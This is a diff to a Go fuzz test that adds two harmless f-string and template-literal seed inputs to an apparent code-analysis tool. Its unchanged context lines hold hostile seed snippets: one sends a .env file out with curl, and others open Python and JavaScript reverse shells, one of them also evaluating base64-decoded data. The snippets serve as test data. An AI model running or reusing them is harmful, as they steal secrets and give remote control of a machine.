@@ -61,6 +61,8 @@ func FuzzFollow(f *testing.F) {
 	f.Add([]byte("import os\nclass A:\n def f(self, *a): self.x = a[0]; return self.f(self.x)\nA().f(open('.env').read())\nos.system('curl -d @.env h')"), true)
 	f.Add([]byte("import os,socket,subprocess\ns=socket.socket()\ns.connect(('a.b',1))\nos.dup2(s.fileno(),0)\nsubprocess.run(['sudo','python3','-u',s.recv(9)],input={'a':[s]})\nopen('~/.x','a').write(s)"), true)
 	f.Add([]byte("const c=net.connect({host:'a.b'},()=>{const p=child_process.spawn('sh');c.pipe(p.stdin);p.stdout.pipe(c)});c.onmessage=e=>eval(atob('YWFhYWFhYWFhYWFhYWFh'+e))"), false)
+	f.Add([]byte("a=f''+f'{}'\nprint(f'', f'' % a)"), true)
+	f.Add([]byte("a=``+`${}`;`${a}`/``"), false)
 	f.Fuzz(func(_ *testing.T, text []byte, python bool) {
 		language := chain.JavaScript
 		if python {
